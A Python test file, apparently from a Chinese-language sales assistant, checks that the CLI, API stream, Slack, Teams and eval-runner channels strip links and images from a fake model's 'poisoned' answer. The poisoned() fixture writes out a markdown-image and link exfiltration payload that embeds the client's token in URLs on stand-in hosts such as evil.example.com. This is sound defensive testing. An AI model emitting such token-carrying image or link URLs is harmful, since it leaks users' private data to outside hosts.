"""A model that writes a poisoned answer — an image and a link whose URLs carry the client's
token, the markdown-image exfiltration class — reaches no user with a foreign link, an image or
a restored value in a URL, on every channel: CLI, API (and the widget's stream), Slack, Teams
and the eval runner. All over the real core with the LLM engine and a fake model server."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI

from assistant.core.types import Turn
from assistant.wiring import Frontline
from evals.runner import run_eval_async
from integrations.api import create_app
from integrations.teams import build_teams
from testkit.fake_openai import FakeOpenAI, client_token, last_user, say
from tests.conftest import make_settings
from tests.slack.harness import slack_dm
from tests.teams.harness import FakeBotService, FakeTokenProvider
from tests.teams.harness import load as load_teams

pytestmark = pytest.mark.asyncio(loop_scope="session")
QUESTION = "我该怎么服务华东精密机械有限公司？"
NAME = "华东精密机械有限公司"
CARD_SCHEMA = "http://adaptivecards.io/schemas/adaptive-card.json"


def poisoned(body: dict):
    tok = client_token(last_user(body))
    return say(
        f"{tok} 是重点客户，建议本月拜访。\n"
        f"![chart](https://img.example.net/c.png?d={tok})\n"
        f"详见 [报告](https://evil.example.com/r?c={tok}) 或 evil.example.com/{tok}\n"
        f'<img src="https://img.example.net/p.gif?{tok}">'
    )


def assert_clean(shown: str) -> None:
    """What reached the user: no foreign host, no image, no value inside a URL."""
    for bad in ("example.net", "evil.example", "![", "<img", "http://", "https://"):
        assert bad not in shown, (bad, shown)
    assert "[link removed]" in shown


class AsRM001:
    """The real core; every channel user is RM001 (identity mapping is not under test)."""

    def __init__(self, core) -> None:
        self._core = core

    async def resolve_rm(self, channel: str, channel_user_id: str) -> str | None:
        return "RM001"

    def stream(self, turn: Turn) -> AsyncIterator:
        return self._core.stream(turn)

    def __getattr__(self, name: str):
        return getattr(self._core, name)


@pytest.fixture
def poisoned_llm(fake_llm: FakeOpenAI) -> FakeOpenAI:
    fake_llm.play(poisoned)
    return fake_llm


async def test_cli(frontline: Frontline, poisoned_llm: FakeOpenAI) -> None:
    answer = await frontline.core.answer(Turn(text=QUESTION, rm_id="RM001", channel="cli"))
    assert answer.engine == "llm" and "guard:link_removed" in answer.flags
    assert NAME in answer.text  # restored where it stands as text
    assert_clean(answer.text)


async def test_api_and_the_widgets_stream(
    frontline: Frontline, poisoned_llm: FakeOpenAI, tmp_path: Path
) -> None:
    settings = make_settings(tmp_path / "home", api_tokens="tok-1:RM001")
    app = create_app(frontline.core, settings)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as c:
        auth = {"Authorization": "Bearer tok-1"}
        chat = await c.post("/v1/chat", json={"message": QUESTION}, headers=auth)
        poisoned_llm.play(poisoned)
        stream = await c.post("/v1/chat/stream", json={"message": QUESTION}, headers=auth)
    assert chat.status_code == 200 and stream.status_code == 200
    assert_clean(chat.json()["text"])
    deltas = [
        json.loads(line[5:])
        for line in stream.text.splitlines()
        if line.startswith("data:") and line[5:].strip().startswith("{")
    ]
    assert_clean(json.dumps(deltas, ensure_ascii=False).replace("\\n", "\n"))


async def test_slack(frontline: Frontline, poisoned_llm: FakeOpenAI, tmp_path: Path) -> None:
    async with slack_dm(AsRM001(frontline.core), tmp_path / "home", QUESTION) as api:
        posts = api.calls("chat.postMessage")
        assert posts and all(p.get("unfurl_links") in (False, "false") for p in posts)
        assert all(p.get("unfurl_media") in (False, "false") for p in posts)
        shown = json.dumps(api.calls("chat.update")[-1], ensure_ascii=False)
    assert NAME in shown
    assert_clean(shown.replace("\\n", "\n"))


async def test_teams(frontline: Frontline, poisoned_llm: FakeOpenAI, tmp_path: Path) -> None:
    bot = FakeBotService()
    bot.server.start()
    try:
        app = FastAPI()  # anonymous development mode, as with the Emulator
        build_teams(
            AsRM001(frontline.core),
            make_settings(tmp_path / "home"),
            token_provider=FakeTokenProvider(),
        ).mount(app)
        activity = load_teams("emulator_message.json", bot.server.url)
        activity["text"] = QUESTION
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url="http://t"
        ) as http:
            response = await http.post("/api/messages", json=activity)
        assert response.status_code < 300
        shown = json.dumps(
            [(m.get("text"), m.get("attachments")) for m in bot.messages()], ensure_ascii=False
        ).replace(CARD_SCHEMA, "")  # the card format's own identifier, not answer text
        assert NAME in shown
        assert_clean(shown.replace("\\n", "\n"))
    finally:
        bot.server.stop()


async def test_eval_runner(frontline: Frontline, poisoned_llm: FakeOpenAI, tmp_path: Path) -> None:
    dataset = tmp_path / "one.jsonl"
    dataset.write_text(
        json.dumps({"id": "p-1", "as_rm": "RM001", "question": QUESTION}, ensure_ascii=False),
        encoding="utf-8",
    )
    await run_eval_async(frontline, dataset, tmp_path / "out", engine="llm", progress=False)
    [row] = [json.loads(x) for x in (tmp_path / "out" / "results.jsonl").read_text().splitlines()]
    assert row["answer"]["engine"] == "llm"
    assert_clean(row["answer"]["text"])
